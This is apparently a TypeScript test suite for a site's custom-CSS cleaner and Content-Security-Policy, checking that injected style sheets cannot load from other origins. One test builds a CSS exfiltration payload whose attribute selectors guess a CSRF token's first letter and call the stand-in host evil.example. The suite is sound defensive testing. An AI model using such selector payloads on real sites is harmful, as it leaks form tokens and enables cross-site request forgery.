import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { lockAppearance, updateAppearance } from "#domain/site/appearance/queries.ts";
import { insertForm } from "#domain/content/forms/queries.ts";
import { newId } from "#domain/platform/ids.ts";
import { launchBrowser } from "../../support/browser.ts";
import { now } from "../../support/clock.ts";
import { aLiveSite } from "../../support/worlds/live-site.ts";
import { type ASite, aSite } from "../../support/world.ts";

const elsewhere = "https://evil.example";
const remoteImage = "https://images.example/a.png";

/** Writes to the database directly, as an earlier version with other rules would have. */
async function store(site: ASite, customCss: string, headerHtml = "") {
  await lockAppearance(site.context());
  await updateAppearance(site.context(), { customCss, headerHtml }, now());
}

async function addForm(site: ASite) {
  const fields = [{ handle: "name", label: "Name", kind: "text" as const, required: true }];
  await insertForm(site.context(), { id: newId(), slug: "enquiry", name: "Enquiry", status: "open", fields }, now());
}

void test("Custom CSS stored before a rule change is cleaned when it is served", async () => {
  const site = await aSite();
  await store(site, `a { background: url(/old-page) } b { background: url("${site.origin}/files/fil_1") }`);
  const { body } = await site.get("/assets/site.css");
  assert.match(body, /a \{ background: none \} b \{ background: url\("\/files\/fil_1"\) \}$/);
  await store(site, "a { background: url(/old-page");
  assert.doesNotMatch((await site.get("/assets/site.css")).body, /old-page/);
});

void test("A page allows images of the origins in its own content, and a page with a form token allows none", async () => {
  const site = await aSite();
  await addForm(site);
  await store(site, "", `<p><img src="${remoteImage}" alt=""></p>`);
  const sourcesOf = async (path: string) =>
    /img-src ([^;]*)/.exec(String((await site.get(path)).headers["content-security-policy"]))?.[1];
  assert.equal(await sourcesOf("/"), "'self' data: https://images.example");
  assert.equal(await sourcesOf("/forms/enquiry"), "'self' data:");
});

void describe("CSS that the cleaner missed, in a browser", () => {
  let browser: Browser;
  let live: Awaited<ReturnType<typeof aLiveSite>>;

  before(async () => {
    [browser, live] = await Promise.all([launchBrowser(), aLiveSite()]);
    await addForm(live.site);
    await store(live.site, "", `<p><img src="${elsewhere}/in-content" alt=""></p>`);
  });
  after(async () => {
    await browser.close();
    await live.close();
  });

  /** URLs of other origins that a page loads with this style sheet in place of the site's. */
  async function loadedFromElsewhere(path: string, css: string): Promise<string[]> {
    const page: Page = await browser.newPage();
    const loaded: string[] = [];
    await page.route("**/*", (route) => {
      const url = new URL(route.request().url());
      if (url.pathname === "/assets/site.css") return route.fulfill({ contentType: "text/css", body: css });
      if (url.origin === live.origin || url.protocol === "data:") return route.continue();
      loaded.push(url.href);
      return route.fulfill({ status: 204 });
    });
    await page.goto(`${live.origin}${path}`, { waitUntil: "networkidle" });
    await page.close();
    return loaded;
  }

  const letters = [..."ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"];
  const guesses = (host: string) =>
    letters
      .map((letter) => `form:has([name=csrf][value^="${letter}"]) { background: url(${host}/${letter}) }`)
      .join("\n");

  void test("cannot leak the first letter of a form token to another site", async () => {
    assert.deepEqual(await loadedFromElsewhere("/forms/enquiry", guesses(elsewhere)), []);
  });

  void test("loads nothing from an origin that the content does not name", async () => {
    const css = `@import "https://other.example/a.css"; body { background: url(https://other.example/b) }
@font-face { font-family: A; src: url(https://other.example/c) } body { font-family: A }`;
    assert.deepEqual(await loadedFromElsewhere("/", css), [`${elsewhere}/in-content`]);
  });
});
